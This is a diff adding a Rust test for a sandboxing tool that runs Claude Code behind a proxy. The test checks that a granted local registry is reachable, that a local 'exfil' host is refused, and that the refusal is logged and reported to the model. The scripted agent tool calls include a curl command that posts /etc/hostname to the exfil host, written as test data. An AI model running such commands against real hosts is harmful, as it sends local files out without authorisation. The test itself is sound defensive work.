@@ -299,3 +299,104 @@ fn a_permission_mode_means_under_nd7_run_what_it_means_without_nd7() {
         "{denied:?} {made:?}"
     );
 }
+
+/// Issue 31 with the real Claude Code: its own API through nd7's proxy, a
+/// granted local "registry" reached with curl, a local "exfil" host refused,
+/// the model told which host and the `nd7 allow --net` to ask for, and the
+/// log and `nd7 show` saying which host and why.
+#[test]
+fn the_network_under_nd7_run_reaches_the_granted_registry_and_not_the_exfil_host() {
+    let serve = |name: &'static str| {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+        let port = listener.local_addr().expect("addr").port();
+        let got = Arc::new(std::sync::Mutex::new(0usize));
+        let seen = got.clone();
+        std::thread::spawn(move || {
+            for mut s in listener.incoming().flatten() {
+                *seen.lock().expect("lock") += 1;
+                let mut buf = [0u8; 4096];
+                let _ = std::io::Read::read(&mut s, &mut buf);
+                let body = format!("{name}-ok\n");
+                let _ = std::io::Write::write_all(
+                    &mut s,
+                    format!(
+                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
+                        body.len()
+                    )
+                    .as_bytes(),
+                );
+            }
+        });
+        (port, got)
+    };
+    let (registry, _) = serve("registry");
+    let (exfil, exfil_hits) = serve("exfil");
+    let world = Arc::new(World::new());
+    std::fs::create_dir_all(world.home().join(".nd7")).expect("mkdir");
+    std::fs::write(
+        world.home().join(".nd7/grants"),
+        format!("net localhost:{registry}\n"),
+    )
+    .expect("grants");
+    world.own();
+    let s = sandboxed_session(&world, |_| {
+        vec![
+            vec![bash(&format!("curl -sf http://localhost:{registry}/pkg"))],
+            vec![bash(&format!(
+                "curl -sf -d @/etc/hostname http://127.0.0.1:{exfil}/"
+            ))],
+            vec![Block::Text("Done.".into())],
+        ]
+    });
+    let results = s.api.tool_results();
+    assert!(results[0].1.contains("registry-ok"), "{results:?}");
+    assert!(results[1].2, "the exfil call failed: {results:?}");
+    assert_eq!(
+        *exfil_hits.lock().expect("lock"),
+        0,
+        "the exfil host was reached"
+    );
+    let told = s.api.requests()[2]["messages"]
+        .as_array()
+        .and_then(|m| m.iter().rfind(|m| m["role"] == "user"))
+        .map(Value::to_string)
+        .unwrap_or_default();
+    assert!(
+        told.contains(&format!("nd7 refused the connection to 127.0.0.1:{exfil}")),
+        "{told}"
+    );
+    assert!(
+        told.contains(&format!("nd7 allow --net 127.0.0.1:{exfil}")),
+        "{told}"
+    );
+    let net: Vec<&Value> = s.of_kind("net");
+    assert!(
+        net.iter().any(|e| e["body"]["verdict"] == "allowed"
+            && e["body"]["rule"]
+                .as_str()
+                .is_some_and(|r| r.ends_with("(agent API)"))),
+        "Claude Code's own API went through the proxy: {net:?}"
+    );
+    assert!(
+        net.iter()
+            .any(|e| e["body"]["host"] == "localhost" && e["body"]["verdict"] == "allowed")
+    );
+    assert!(net.iter().any(|e| e["body"]["host"] == "127.0.0.1"
+        && e["body"]["port"] == exfil
+        && e["body"]["verdict"] == "refused"
+        && e["body"]["process"] == "curl"
+        && e["body"]["agent_own"] == false));
+    // Claude Code's own refused connections (its updater, telemetry) are
+    // logged as its own and not told to the model.
+    for own in net.iter().filter(|e| e["body"]["agent_own"] == true) {
+        let host = own["body"]["host"].as_str().unwrap_or("?");
+        assert!(!told.contains(&format!("connection to {host}:")), "{told}");
+    }
+    super::assert_clean(&s);
+    let err = stderr(&s.run.output);
+    assert!(
+        err.contains(&format!("127.0.0.1:{exfil}"))
+            && err.contains("the proxy refused connections to"),
+        "{err}"
+    );
+}
